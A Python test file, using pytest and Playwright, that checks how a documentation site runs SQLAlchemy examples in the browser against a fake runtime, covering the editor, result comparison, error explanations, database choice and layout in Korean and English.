"""Running code in the page, as a reader sees it: blocks, editor, results, playground. The runtime itself is stood in
for by tests/fake_runtime.js, which answers what each test tells it to."""

import json
import re
from pathlib import Path

import pytest

from livedocs import EXAMPLES, ROOT
from livedocs.content import error_index, examples
from livedocs.i18n import catalogue
from livedocs.languages import LANGUAGES
from livedocs.render import browser_runtime, highlight, html, playground, results
from livedocs.render.diagram import diagram
from livedocs.render.expand import expand
from tests.support.browser import NARROW, WIDE, overflow, too_small, until

pytestmark = pytest.mark.usefixtures("chromium")

FAKE = Path(__file__).with_name("fake_runtime.js")
PAGE = "/deleting/parent-deleted/"
WHOLE = "deleting/default"  # an example that the page shows whole, with its results
SECTION = ("deleting/ondelete_alone", "delete")  # one of which it shows a section, with results
NARROW_DARK = {"viewport": NARROW, "color_scheme": "dark"}
WIDE_LIGHT = {"viewport": WIDE, "color_scheme": "light"}


def panel(name, section=None, language="ko", database="sqlite"):
    """What the runtime returns of an example that does what is recorded: the panel without colours."""
    example, _ = examples.find(name)
    runs = {database: example.run(database)}
    views = results.views(example, runs, {}, example.sections.get(section))
    shown = html.panel(views, (database,), language, "UID", highlight.block)
    return re.sub(
        r"<code>.*?</code>", lambda m: re.sub(r"</?(span|b|i)\b[^>]*>", "", m[0]), shown, flags=re.DOTALL
    )


def answer(name=WHOLE, section=None, language="ko", database="sqlite", change=(), **result):
    html = panel(name, section, language, database)
    for old, new in change:
        assert old in html
        html = html.replace(old, new)
    return {"result": {"html": html, **result}}


@pytest.fixture
def opened(open_page):
    """Opens a page whose runtime answers with `answers`, and waits for its buttons."""

    def open_(path, *answers, language="ko", fake=None, ready=".run-button", **options):
        given = {"answers": answers or [answer(language=language)], **(fake or {})}

        def prepare(page):
            page.add_init_script(f"window.fake = {json.dumps(given)}")
            page.route(
                "**/assets/run/runtime.js",
                lambda route: route.fulfill(path=FAKE, content_type="text/javascript"),
            )

        options.setdefault("locale", {"ko": "ko-KR", "en": "en-US"}[language])
        page = open_page(f"/{language}{path}", prepare=prepare, **options)
        if ready:
            page.wait_for_selector(ready)
        return page

    return open_


def awake(figure):
    """The figure, once its bar works because the mouse is over it."""
    figure.locator(".run-bar").hover()
    figure.and_(figure.page.locator(".is-awake")).wait_for()
    return figure


def block(page, name=WHOLE, section=None, results=True):
    """The figure of an example, or of one of its sections, with results or without; its bar works."""
    return awake(sleeping_block(page, name, section, results))


def sleeping_block(page, name=WHOLE, section=None, results=True):
    """The same as the page has it before a reader touches its bar."""
    lines = "[data-lines]" if section else ":not([data-lines])"
    if section:
        found = examples.find(name)[0].lines(section)
        lines = f'[data-lines="{found.start}-{found.stop - 1}"]'
    has = ":has(> .result)" if results else ":not(:has(> .result))"
    return page.locator(f'figure.example[data-example="{name}"]{lines}{has}').first


def job(page, number=-1):
    return page.evaluate(f"fake.jobs.at({number})")


def words(page):
    """What the page says: what is built with it, and what its scripts say."""
    words = catalogue(page.evaluate("document.documentElement.lang"))
    return {**words["build"], **words["run"]}


def run(figure, done=".run-head"):
    figure.locator(".run-button").click()
    figure.locator(done).wait_for()


# A block that runs.


@pytest.mark.parametrize("view", [WIDE_LIGHT, NARROW_DARK], ids=["1440", "390"])
@pytest.mark.parametrize("language", LANGUAGES)
def test_the_live_result_stands_where_the_recorded_one_stood(opened, language, view):
    page = opened(PAGE, language=language, **view)
    figure, said = block(page), words(page)
    recorded = figure.locator("> .result")
    recorded.locator(".result-views label", has_text="SQL").click()
    run(figure)
    assert job(page) == {
        "source": examples.find(WHOLE)[0].source,
        "filename": f"examples/{WHOLE}.py",
        "modules": {},
        "lines": None,
        "language": language,
        "database": "sqlite",
        "uid": job(page)["uid"],
    }
    head = figure.locator(".run-head").inner_text()
    assert said["live"].replace("{database}", "SQLite") in head and "84" in head and said["same"] in head
    assert figure.locator(".run-status").get_attribute("role") == "status"
    assert said["same"] in figure.locator(".run-status").text_content()
    live = figure.locator(".run-result .result")
    assert live.is_visible() and not recorded.is_visible()
    sql = live.locator(".result-panel:visible")
    assert "UPDATE project SET user_id=?" in sql.inner_text(), "it shows what the reader had chosen to see"
    assert sql.locator("code b").count() > 3 and sql.locator("code i").count() > 0
    assert figure.locator(".run-difference").count() == 0
    figure.locator(".run-choice button", has_text=said["show_recorded"]).click()
    assert recorded.is_visible() and not live.is_visible()
    figure.locator(".run-choice button", has_text=said["show_live"]).click()
    assert live.is_visible() and not recorded.is_visible()
    assert overflow(page) == 0
    ids = page.evaluate("[...document.querySelectorAll('[id]')].map((e) => e.id)")
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("language", LANGUAGES)
def test_buttons_that_come_with_a_run_are_named_with_the_example(opened, language):
    page = opened(PAGE, answer(language=language), {"hold": True}, language=language)
    figure, said = block(page), words(page)
    run(figure)
    figure.locator(".run-button").click()
    for word in ("stop", "reset", "show_live", "show_recorded"):
        name = said["button_of"].format(button=said[word], name=f"{WHOLE}.py")
        assert figure.locator(f"button[aria-label='{name}']").text_content() == said[word]


@pytest.mark.parametrize("language", LANGUAGES)
def test_what_differs_is_shown_line_by_line(opened, language):
    changed = answer(language=language, change=[("('Website', None)", "('Website', 1)")])
    page = opened(PAGE, changed, language=language)
    figure, said = block(page), words(page)
    run(figure)
    assert figure.locator(".run-verdict").inner_text() == said["differs"].replace(
        "{views}", said["views"]["output"]
    )
    assert figure.locator(".run-difference").evaluate("details => details.open")
    assert figure.locator(".run-difference code").inner_text().rstrip("\n").split("\n") == [
        "  users: []",
        "− projects: [('Website', None), ('Mobile app', None)]",
        "+ projects: [('Website', 1), ('Mobile app', None)]",
    ]


def test_a_whole_script_is_edited(opened):
    page = opened(PAGE, answer(change=[("Website", "Blog")]))
    figure, said = block(page), words(page)
    assert not figure.locator("button", has_text=said["reset"]).is_visible()
    figure.locator("button", has_text=said["run_edit"]).click()
    assert page.evaluate("document.activeElement.tagName") == "TEXTAREA"
    page.keyboard.type("import this\n")
    run(figure)
    assert job(page)["source"] == "import this\n" + examples.find(WHOLE)[0].source.rstrip("\n")
    assert said["edited"] in figure.locator(".run-verdict").inner_text()
    with page.expect_download() as download:
        figure.locator("a[download]").click()
    assert download.value.path().read_text("utf-8").startswith("import this\nfrom")
    figure.locator("button", has_text=said["reset"]).click()
    assert figure.locator("textarea").count() == 0 and figure.locator("> .highlight").is_visible()
    assert figure.locator("> .result").is_visible() and not figure.locator(".run-head").is_visible()
    assert page.evaluate("document.activeElement.textContent") == said["run_edit"]


def test_editing_shows_the_caret(opened):
    page = opened(PAGE, viewport=NARROW)
    figure, said = block(page), words(page)
    button = figure.locator("button", has_text=said["run_edit"])
    button.evaluate("button => button.scrollIntoView({ block: 'end' })")
    button.click()
    header = page.locator(".md-header").bounding_box()
    until(
        page,
        "below => { const { top } = document.querySelector('.editor textarea').getBoundingClientRect();"
        " return top >= below && top < innerHeight / 2 }",
        header["height"] - 1,
    )


def test_a_section_is_put_back_into_its_script(opened):
    example, section = SECTION
    found = examples.find(example)[0]
    lines = found.lines(section)
    page = opened(PAGE, answer(example, section))
    figure, said = block(page, example, section), words(page)
    run(figure)
    assert job(page)["source"] == found.source and job(page)["lines"] == [lines.start, lines.stop - 1]
    assert said["same"] in figure.locator(".run-verdict").inner_text()
    figure.locator("button", has_text=said["run_edit"]).click()
    page.keyboard.type("first = 1\n\n")
    run(figure)
    before = found.source.split("\n")
    assert job(page)["source"].split("\n") == [
        *before[: lines.start - 1],
        "first = 1",
        "",
        *before[lines.start - 1 :],
    ]
    assert job(page)["lines"] == [lines.start, lines.stop + 1]


def test_every_section_goes_back_where_it_was(opened):
    """With other indentation, too: what is unchanged gives the script, what is added has the section's indentation."""
    page = opened(PAGE)
    put_back = """([script, shown, code, lines]) =>
      import(document.querySelector('script[src*="site.js"]').src.replace('site.js', 'run/runnable-block.js'))
        .then(({ putBack }) => putBack(script, code, shown, lines))"""
    checked = 0
    for example in examples.all_examples():
        for section, lines in example.sections.items():
            shown = example.code(section).rstrip("\n")
            numbers = [lines.start, lines.start - 1 + example.code(section).rstrip("\n").count("\n") + 1]
            got = page.evaluate(put_back, [example.source, shown, shown, numbers])
            assert got["source"] == example.source, (example.name, section)
            checked += 1
    assert checked > 300
    script = "def f():\n    if x:\n        a()\n        b()\n"
    got = page.evaluate(put_back, [script, "a()\nb()", "a()\n\nif y:\n    c()\nb()\n", [3, 4]])
    assert got == {
        "source": "def f():\n    if x:\n        a()\n\n        if y:\n            c()\n        b()\n",
        "lines": [3, 7],
    }


def test_code_without_a_result_runs_whole(opened):
    page = opened(PAGE)
    figure = awake(page.locator("figure.example:not(:has(> .result)):has(.run-button)").first)
    run(figure)
    example = examples.find(figure.get_attribute("data-example"))[0]
    assert job(page)["source"] == example.source
    assert figure.locator(".run-result .result").is_visible()
    assert figure.locator(".run-choice, .run-verdict").count() == 0


def test_modules_go_along_and_can_be_edited(opened):
    page = opened("/linking/modules/")
    figure = awake(page.locator("figure.example[data-module]").first)
    name, module = figure.get_attribute("data-example"), figure.get_attribute("data-module")
    example = examples.find(name)[0]
    figure.locator("button", has_text=words(page)["run_edit"]).click()
    page.keyboard.type("x = 1\n")
    run(figure)
    given = job(page)
    assert given["source"] == example.source and given["lines"] is None
    assert given["modules"].keys() == example.modules.keys()
    for path in example.modules:
        assert given["modules"][path].rstrip("\n") == (
            "x = 1\n" * (path == module) + example.code(path)
        ).rstrip("\n")


def test_rows_that_changed_since_the_run_before_are_marked(opened):
    page = opened(PAGE, answer(), answer(change=[("<td>Website</td>", "<td>Blog</td>")]))
    figure, said = block(page), words(page)
    run(figure)
    figure.locator(".run-result label", has_text=said["views"]["rows"]).click()
    assert figure.locator(".run-since").count() == 0
    figure.locator(".run-button").click()
    figure.locator(".run-since").wait_for()
    marked = figure.locator(".run-since").all_text_contents()
    assert marked == [f"Blog ({said['since'].replace('{value}', 'Website')})"]


# What is loaded, and when.


def test_nothing_is_loaded_before_the_reader_means_it(opened):
    page = opened(PAGE)
    page.locator("h2").nth(1).hover()
    page.wait_for_timeout(200)
    assert page.evaluate("fake.starts ?? 0") == 0
    loaded = page.evaluate("performance.getEntriesByType('resource').map((entry) => entry.name)")
    assert not [name for name in loaded if re.search(r"/examples/|error-index\.json|playground\.js", name)]
    assert not [
        name
        for name in loaded
        if re.search(r"/(runnable-block|run-panel|words|editor|sanitize|runtime)\.js", name)
    ]
    sleeping_block(page).locator(".run-bar").hover()
    until(page, "globalThis.fake?.starts === 1")
    page = opened(PAGE)
    sleeping_block(page).locator(".run-button").focus()
    until(page, "globalThis.fake?.starts === 1")
    assert page.locator(".is-awake").count() == 1 and page.evaluate("fake.jobs.length") == 0


def test_where_data_is_saved_only_a_click_loads(open_page, opened):
    save = "Object.defineProperty(navigator, 'connection', { value: { saveData: true } })"
    page = opened(PAGE)
    page.context.add_init_script(save)
    page.reload()
    page.wait_for_selector(".run-button")
    figure = sleeping_block(page)
    assert browser_runtime.first_run("ko") == figure.locator(".run-note").inner_text()
    figure.locator(".run-bar").hover()
    figure.locator(".run-button").focus()
    assert page.evaluate("(fake.starts ?? 0) + (fake.jobs?.length ?? 0)") == 0
    run(figure)
    assert page.evaluate("fake.jobs.length") == 1


@pytest.mark.parametrize("language", LANGUAGES)
def test_loading_shows_how_much_and_can_be_tried_again(opened, language):
    progress = [{"loaded": 1_000_000, "total": 8_100_000}, {"loaded": 3_200_000, "total": 8_100_000}]
    page = opened(
        PAGE,
        {"progress": progress, "pause": 400, "fail": "download"},
        answer(language=language),
        language=language,
    )
    figure, said = block(page), words(page)
    figure.locator(".run-button").click()
    until(page, "document.querySelector('.run-progress:not([hidden])')?.value === 3200000")
    assert figure.locator(".run-progress").get_attribute("max") == "8100000"
    loading = said["loading"].replace("{loaded}", "3.2").replace("{total}", "8.1")
    assert figure.locator(".run-status").inner_text() == loading
    figure.locator(".run-again").wait_for()
    assert figure.locator(".run-status").inner_text() == said["download"]
    assert not figure.locator(".run-progress").is_visible()
    figure.locator(".run-again").click()
    figure.locator(".run-head").wait_for()
    assert not figure.locator(".run-again").is_visible()


def test_a_script_that_cannot_be_loaded_is_a_download_too(opened, chromium):
    page = opened(PAGE)
    page.route("**/examples/**", lambda route: route.abort())
    figure, said = block(page), words(page)
    figure.locator(".run-button").click()
    figure.locator(".run-again").wait_for()
    assert figure.locator(".run-status").inner_text() == said["download"]
    page.unroute("**/examples/**")
    figure.locator(".run-again").click()
    figure.locator(".run-head").wait_for()


def test_a_browser_that_cannot_run_python_has_no_bars(open_page):
    without = "delete globalThis.WebAssembly"
    page = open_page(f"/ko{PAGE}", prepare=lambda page: page.add_init_script(without))
    page.wait_for_selector(".cannot-run", state="attached")
    assert page.locator(".run-button").count() > 3 and page.locator(".run:visible").count() == 0
    loaded = page.evaluate("performance.getEntriesByType('resource').map((entry) => entry.name)")
    assert not [name for name in loaded if re.search(r"/(runnable-block|runtime)\.js", name)]
    page = open_page(f"/ko{PAGE}", java_script_enabled=False)
    assert page.locator(".run-button").count() > 3 and page.locator(".run:visible").count() == 0


def test_without_the_runtime_no_bar_is_built(monkeypatch, tmp_path):
    shown = "::: example deleting/default"
    built = "".join(expand(shown, "page.md", "en").panels.values())
    assert 'class="run-button" value="sqlite"' in built and 'value="postgresql">PostgreSQL' in built
    monkeypatch.setattr(browser_runtime, "FOLDER", tmp_path)
    assert 'class="run' not in "".join(expand(shown, "page.md", "en").panels.values())
    (tmp_path / "manifest.json").write_text('{"files": {"wasm": {"bytes": 1500000}}}')
    built = "".join(expand(shown, "page.md", "en").panels.values())
    assert "run-button" in built and "run-databases" not in built, "without PostgreSQL there is no choice"
    assert browser_runtime.first_run("en") == "The first run loads 1.5 MB."
    only = next(e for e in examples.all_examples() if e.databases == ("postgresql",) and not e.in_page)
    built = "".join(expand(f"::: code {only.name}", "page.md", "ko").panels.values())
    assert catalogue("ko")["build"]["not_in_page"]["postgresql"] in built and "run-button" not in built


SLOWLY = "**/assets/run/runnable-block.js"


@pytest.mark.parametrize("button", [".run-button", ".run-edit"])
@pytest.mark.parametrize("by", ["mouse", "keyboard"])
def test_the_click_that_comes_first_is_not_lost(opened, button, by):
    page = opened(PAGE)
    held = []
    page.route(SLOWLY, lambda route: held.append(route))
    figure = sleeping_block(page)
    if by == "mouse":
        figure.locator(button).click()
    else:
        figure.locator(button).focus()
        page.keyboard.press("Enter")
    page.wait_for_timeout(200)
    assert page.locator(".is-awake").count() == 0 and len(held) == 1
    held[0].continue_()
    if button == ".run-button":
        figure.locator(".run-head").wait_for()
        assert page.evaluate("fake.jobs.length") == 1 and page.evaluate("fake.starts") == 1
    else:
        figure.locator("textarea").wait_for()
        assert page.evaluate("document.activeElement.tagName") == "TEXTAREA"
        assert page.evaluate("fake.jobs.length") == 0


def test_a_database_chosen_before_the_bar_works_is_kept(opened):
    page = opened(PAGE, answer(database="postgresql"))
    held = []
    page.route(SLOWLY, lambda route: held.append(route))
    figure = sleeping_block(page)
    figure.locator(".run-databases label", has_text="PostgreSQL").click()
    page.wait_for_timeout(100)
    assert figure.locator(".run-databases input:checked").get_attribute("value") == "postgresql"
    held[0].continue_()
    figure.locator(".run-note:visible").wait_for()
    run(figure)
    assert job(page)["database"] == "postgresql"


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_bar_that_cannot_be_made_to_work_says_so(opened, language):
    page = opened(PAGE, language=language)
    page.route(SLOWLY, lambda route: route.abort())
    figure = sleeping_block(page)
    figure.locator(".run-button").click()
    figure.locator(".run-status").wait_for()
    assert figure.locator(".run-status").inner_text() == catalogue(language)["build"]["run_failed"]
    page.unroute(SLOWLY)


@pytest.mark.parametrize("view", [WIDE_LIGHT, NARROW_DARK], ids=["1440", "390"])
@pytest.mark.parametrize("path", [PAGE, "/playground/", "/deleting/every-combination/"])
def test_nothing_moves_when_bars_come_or_begin_to_work(opened, path, view):
    page = opened(path, ready=None, **view)
    moved = """() => new Promise((resolve) => {
      let sum = 0;
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) sum += entry.value;
      }).observe({ type: "layout-shift", buffered: true });
      setTimeout(() => resolve(sum), 300);
    })"""
    page.wait_for_timeout(500)
    assert page.evaluate(moved) == 0
    if path != PAGE:
        return
    figure = sleeping_block(page)
    heights = figure.bounding_box()["height"]
    awake(figure)
    assert figure.bounding_box()["height"] == heights
    assert page.evaluate(moved) == 0


# While it runs.


def test_output_comes_as_it_is_printed_and_can_be_stopped(opened):
    page = opened(PAGE, {"output": ["one\n", "two\n"], "hold": True}, answer())
    page.clock.install()
    figure, said = block(page), words(page)
    assert not figure.locator(".run-stop").is_visible()
    figure.locator(".run-button").click()
    page.clock.run_for(1000)
    stream = figure.locator(".run-stream")
    stream.wait_for()
    assert stream.inner_text() == "one\ntwo\n" and stream.get_attribute("aria-live") == "polite"
    assert figure.locator(".run-status").inner_text() == said["running"]
    page.clock.run_for(5000)
    assert figure.locator(".run-status").inner_text() == said["still"]
    figure.locator(".run-stop").focus()
    page.keyboard.press("Enter")
    until(page, "text => document.body.innerText.includes(text)", said["stopped"])
    assert stream.inner_text() == "one\ntwo\n", "what was printed stays"
    assert page.evaluate("document.activeElement.classList.contains('run-button')"), "the focus is not lost"
    page.clock.run_for(6000)
    assert figure.locator(".run-status").inner_text() == said["stopped"]
    run(figure)
    assert said["same"] in figure.locator(".run-verdict").inner_text()
    assert not stream.is_visible()


def test_running_another_block_stops_the_first(opened):
    page = opened(PAGE, {"output": ["first"], "hold": True}, answer(*SECTION))
    said = words(page)
    first, second = block(page), block(page, *SECTION)
    first.locator(".run-button").click()
    first.locator(".run-stream").wait_for()
    run(second)
    assert said["stopped"] in first.locator(".run").inner_text()
    assert said["same"] in second.locator(".run").inner_text()
    assert page.evaluate("fake.stops") == 1


# How it may end.


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("status", ["flood", "memory", "crashed", "stopped"])
def test_each_way_to_end_is_said(opened, language, status):
    page = opened(PAGE, {"output": ["x\n"], "result": {"status": status}}, language=language)
    figure, said = block(page), words(page)
    run(figure, done=".run-stream")
    until(page, "text => document.body.innerText.includes(text)", said[status])
    assert figure.locator("> .result").is_visible(), "the recorded result stays"


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(
    ("type_", "message", "word"),
    [
        ("RuntimeError", "input() is not available", "input"),
        ("SystemExit", "1", "exit"),
        ("SyntaxError", "'(' was never closed", "syntax"),
        ("IndentationError", "unexpected indent", "syntax"),
        ("RuntimeError", "can't start new thread", "threads"),
        ("RecursionError", "maximum recursion depth exceeded", "recursion"),
        ("MemoryError", "", "out_of_memory"),
        ("ZeroDivisionError", "division by zero", "error"),
    ],
)
def test_each_error_is_explained(opened, language, type_, message, word):
    error = {"type": type_, "message": message, "line": 3}
    page = opened(PAGE, answer(language=language, error=error), language=language)
    figure, said = block(page), words(page)
    run(figure, done=".run-error")
    text = figure.locator(".run-error").inner_text()
    assert said[word] in text and type_ in text and message in text
    assert said["line"].replace("{line}", "3") in text


def test_a_place_in_the_script_is_not_said_twice(opened):
    error = {"type": "SyntaxError", "message": "'(' was never closed (default.py, line 26)", "line": 3}
    page = opened(PAGE, answer(error=error))
    figure, said = block(page), words(page)
    run(figure, done=".run-error")
    text = figure.locator(".run-error").inner_text()
    assert "SyntaxError: '(' was never closed" in text and said["line"].replace("{line}", "3") in text
    assert "26" not in text


def test_what_is_printed_only_now_is_seen(opened):
    quiet = ("deleting/recommended", "delete")
    page = opened(PAGE, answer(*quiet), answer())
    figure = block(page, *quiet)
    shown = figure.locator(".run-result .result-panel:visible")
    run(figure)
    assert shown.get_attribute("data-view") == "sql", "it printed nothing"
    figure.locator(".run-button").click()
    until(page, "() => document.querySelector('.run-result .result-views input[value=output]')")
    assert shown.get_attribute("data-view") == "output"


def marked_line(figure):
    """The number of the line that is marked, by where the mark is on the screen."""
    mark = figure.locator(".error-line").bounding_box()
    pre = figure.locator("pre:visible").first
    rows = pre.evaluate(
        """pre => { const range = document.createRange(), rows = []; let at = 0;
          const walk = document.createTreeWalker(pre, NodeFilter.SHOW_TEXT);
          for (let node = walk.nextNode(); node; node = walk.nextNode())
            for (let i = 0; i < node.data.length; i++) if (node.data[i].trim()) {
              range.setStart(node, i); range.setEnd(node, i + 1);
              rows.push(range.getBoundingClientRect().top + range.getBoundingClientRect().height / 2); }
          return rows; }"""
    )
    inside = {round(row) for row in rows if mark["y"] < row < mark["y"] + mark["height"]}
    assert len(inside) == 1, inside
    return inside.pop(), sorted({round(row) for row in rows})


@pytest.mark.parametrize("view", [WIDE_LIGHT, NARROW_DARK], ids=["1440", "390"])
def test_the_line_of_the_error_is_marked(opened, view):
    error = {"type": "NameError", "message": "name 'x' is not defined", "line": 2}
    page = opened(PAGE, answer(error=error), **view)
    figure, said = block(page), words(page)
    run(figure, done=".error-line")
    line, rows = marked_line(figure)
    assert rows.index(line) == 1
    figure.locator("button", has_text=said["run_edit"]).click()
    assert figure.locator(".error-line").count() == 0
    run(figure, done=".error-line")
    line, rows = marked_line(figure)
    assert rows.index(line) == 1
    figure.locator("textarea").focus()
    page.keyboard.type("y")
    assert figure.locator(".error-line").count() == 0, "the line is another now"


def test_the_line_of_the_error_is_seen_in_colours_of_the_system(opened):
    error = {"type": "ZeroDivisionError", "message": "division by zero", "line": 3}
    page = opened(PAGE, answer(error=error), forced_colors="active")
    figure = block(page)
    run(figure, done=".error-line")
    border = figure.locator(".error-line").evaluate("line => getComputedStyle(line).borderInlineStartWidth")
    assert border != "0px", "a background of ours is not drawn there"


def test_the_line_of_a_section_and_one_outside(opened):
    example, section = SECTION
    lines = examples.find(example)[0].lines(section)
    here = {"type": "NameError", "message": "x", "line": lines.start + 1}
    there = {"type": "NameError", "message": "x", "line": 2}
    page = opened(PAGE, answer(example, section, error=here), answer(example, section, error=there))
    figure, said = block(page, example, section), words(page)
    run(figure, done=".error-line")
    assert said["line"].replace("{line}", "2") in figure.locator(".run-error").inner_text()
    line, rows = marked_line(figure)
    assert rows.index(line) == 1
    figure.locator(".run-button").click()
    figure.locator(".run-open-line").wait_for()
    assert said["line_elsewhere"].replace("{line}", "2") in figure.locator(".run-error").inner_text()
    assert figure.locator(".error-line").count() == 0
    figure.locator(".run-open-line").click()
    page.wait_for_selector(".playground .error-line")
    selected = "(a => a.value.slice(a.selectionStart, a.selectionEnd))(document.activeElement)"
    assert page.evaluate(selected) == examples.find(example)[0].source.split("\n")[1]


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(
    ("type_", "message", "place"),
    [
        (
            "IntegrityError",
            "(sqlite3.IntegrityError) NOT NULL constraint failed: pet.owner_id",
            "parent-deleted/#not-null",
        ),
        (
            "ArgumentError",
            "Node.children and back-reference Node.parent are both of the same direction <x>.  Did you mean to set remote_side",
            "tree/#same-direction",
        ),
        (
            "InvalidRequestError",
            "When initializing mapper Mapper[Pet(pet)], expression 'Ownr' failed to locate a name ('Ownr').",
            "modules/#failed-to-locate",
        ),
        ("ZeroDivisionError", "division by zero", None),
        ("ValueError", "there are no foreign words here", None),
    ],
)
def test_a_message_leads_to_our_page_on_it(opened, language, type_, message, place):
    error = {"type": type_, "message": message, "line": 3}
    page = opened(PAGE, answer(language=language, error=error), language=language)
    figure = block(page)
    with page.expect_response("**/error-index.json"):
        run(figure, done=".run-error")
    page.wait_for_timeout(100)
    hrefs = [link.get_attribute("href") for link in figure.locator(".run-error a").all()]
    assert [f"/{language}/" in href and href.endswith(place or "-") for href in hrefs] == [True] * bool(
        place
    ), hrefs


def test_the_list_of_messages_leads_to_places_that_exist(site):
    entries = json.loads((site / "assets" / "error-index.json").read_text("utf-8"))
    assert entries == json.loads(error_index.data()) and len(entries) > 150
    for entry in entries:
        path, id_ = entry["place"].split("#")
        for language in LANGUAGES:
            assert f'id="{id_}"' in (site / language / path / "index.html").read_text("utf-8"), entry
            assert entry["title"][language]


# Databases.


def test_postgresql_is_chosen_and_says_what_it_loads(opened):
    page = opened(PAGE, answer(), answer(database="postgresql"))
    figure, said = block(page), words(page)
    assert figure.locator(".run-databases input:checked").get_attribute("value") == "sqlite"
    figure.locator(".run-databases label", has_text="PostgreSQL").click()
    assert figure.locator(".run-note").inner_text() == said["postgresql_size"].replace("{size}", "3.9")
    assert page.evaluate("fake.jobs.length") == 0, "choosing does not run"
    page.evaluate("fake.answers.shift()")
    run(figure)
    assert job(page)["database"] == "postgresql"
    assert said["live"].replace("{database}", "PostgreSQL") in figure.locator(".run-head").inner_text()
    assert said["same"] in figure.locator(".run-verdict").inner_text(), "compared with what PostgreSQL gave"


@pytest.mark.parametrize("language", LANGUAGES)
def test_what_only_postgresql_has_is_run_there_at_once(opened, language):
    message = "(sqlite3.OperationalError) no such function: gen_random_uuid\n[SQL: SELECT gen_random_uuid()]"
    error = {"type": "sqlalchemy.exc.OperationalError", "message": message, "line": 3}
    on_postgresql = answer(language=language, database="postgresql")
    page = opened(PAGE, answer(language=language, error=error), on_postgresql, language=language)
    figure, said = block(page), words(page)
    run(figure, done=".run-on-postgresql")
    told = figure.locator(".run-error").inner_text()
    assert said["needs_postgresql"] in told and said["postgresql_size"].replace("{size}", "3.9") in told
    figure.locator("button", has_text=said["run_on_postgresql"]).click()
    until(page, "fake.jobs.length === 2")
    assert job(page)["database"] == "postgresql" and job(page)["source"] == job(page, 0)["source"]
    figure.locator(".run-head", has_text=said["live"].replace("{database}", "PostgreSQL")).wait_for()
    assert figure.locator(".run-databases input:checked").get_attribute("value") == "postgresql"
    assert not figure.locator(".run-on-postgresql").is_visible()


def test_what_postgresql_has_is_not_offered_where_it_ran_or_cannot_run(opened):
    message = "(sqlite3.OperationalError) no such function: now"
    error = {"type": "sqlalchemy.exc.OperationalError", "message": message, "line": 3}
    page = opened(PAGE, answer(database="postgresql", error=error), answer(error=error))
    figure = block(page)
    figure.locator(".run-databases label", has_text="PostgreSQL").click()
    run(figure, done=".run-error")
    assert figure.locator(".run-on-postgresql").count() == 0, "it ran there"
    figure.locator(".run-databases").evaluate("choice => choice.remove()")
    run(figure, done=".run-error")
    assert figure.locator(".run-on-postgresql").count() == 0, "there is no choice"


@pytest.mark.parametrize("language", LANGUAGES)
def test_what_a_run_shows_is_large_enough_on_a_phone(opened, language):
    message = "(sqlite3.OperationalError) no such function: now"
    error = {"type": "sqlalchemy.exc.OperationalError", "message": message, "line": 1}
    change = [("users: []", "users: [1]")]
    page = opened(
        PAGE, answer(language=language, error=error, change=change), language=language, viewport=NARROW
    )
    figure = block(page)
    run(figure, done=".run-on-postgresql")
    figure.locator(".run-edit").click()
    assert figure.locator(".run-difference summary").is_visible()
    assert too_small(page, 50) == [] and overflow(page) <= 0
    page = opened("/playground/", {"output": ["x\n"], "hold": True}, language=language, viewport=NARROW)
    page.click(".playground-add")
    page.fill(".playground-file input", "app/models.py")
    page.click(".playground-file button")
    page.click(".playground-share")
    page.wait_for_selector(".playground-link:visible")
    page.click(".run-button")
    page.wait_for_selector(".run-stop:visible")
    assert too_small(page, 10) == [] and overflow(page) <= 0


OTHER_SERVER = {
    "ko": "기록은 PostgreSQL 15에서 했고 여기서는 PostgreSQL 18로 실행했습니다.",
    "en": "It was recorded on PostgreSQL 15; this is PostgreSQL 18,",
}


@pytest.mark.parametrize("language", LANGUAGES)
def test_another_version_of_postgresql_is_named_where_the_result_differs(opened, language):
    """Of SQLite, and of code that was edited, nothing is said of it; nor where the page itself refused."""
    change = [("users: []", "users: [1]")]
    refused = [("users: []", "PostgreSQL in the page has one connection")]
    answers = [
        answer(language=language, database="postgresql", change=one) for one in (change, refused, change)
    ]
    page = opened(PAGE, answer(language=language, change=change), *answers, language=language)
    figure = block(page)
    run(figure)
    verdict = figure.locator(".run-verdict")
    assert OTHER_SERVER[language] not in verdict.inner_text()
    figure.locator(".run-databases label", has_text="PostgreSQL").click()
    expected = [(2, True), (3, False), (4, False)]
    for count, is_said in expected:
        if count == 4:
            figure.locator(".run-edit").click()
            figure.locator("textarea").press("a")
        figure.locator(".run-button").click()
        until(page, f"fake.jobs.length === {count}")
        until(page, "() => !document.querySelector('.is-running')")
        assert (OTHER_SERVER[language] in verdict.inner_text()) == is_said
        if is_said:
            assert OTHER_SERVER[language] in figure.locator(".run-status").text_content(), "it is read out"


def shown_on(name, language="ko"):
    """The address of a page that shows an example's code."""
    for path in sorted((ROOT / "docs" / language).rglob("*.md")):
        if re.search(rf"^::: (example|code) {name}( |$)", path.read_text("utf-8"), re.MULTILINE):
            return f"/{path.relative_to(ROOT / 'docs' / language).with_suffix('').as_posix()}/"
    return None


@pytest.mark.parametrize("language", LANGUAGES)
def test_what_cannot_run_in_the_page_says_why(opened, language):
    reasons = {}
    for example in examples.all_examples():
        if shown_on(example.name) and (example.in_page or example.databases == ("postgresql",)):
            reasons.setdefault(example.in_page, example)
    only_postgresql = reasons[None]
    assert {None, "mariadb", "threads"} <= reasons.keys()
    for reason, example in reasons.items():
        if reason:
            page = opened(shown_on(example.name), language=language, ready=".run")
            figure = page.locator(f'figure.example[data-example="{example.name}"]').first
            assert figure.locator(".run-reason").inner_text() == words(page)["not_in_page"][reason]
            assert figure.locator("button.run-button").count() == 0
    page = opened(shown_on(only_postgresql.name), language=language)
    figure = page.locator(f'figure.example[data-example="{only_postgresql.name}"]').first
    assert figure.locator(".run-databases").count() == 0
    figure.locator(".run-button").click()
    until(page, "fake.jobs?.length === 1")
    assert job(page)["database"] == "postgresql"


def test_every_block_with_code_says_whether_it_runs(site):
    for path in site.rglob("index.html"):
        for attributes, body in re.findall(
            r'<figure class="example"([^>]*)>(.*?)</figure>', path.read_text("utf-8"), re.DOTALL
        ):
            if "<figcaption" not in body:
                assert "data-example" not in attributes
                continue
            data = dict(re.findall(r'data-([\w-]+)="([^"]*)"', attributes))
            example = examples.find(data["example"])[0]
            assert data["databases"].split() == list(example.databases)
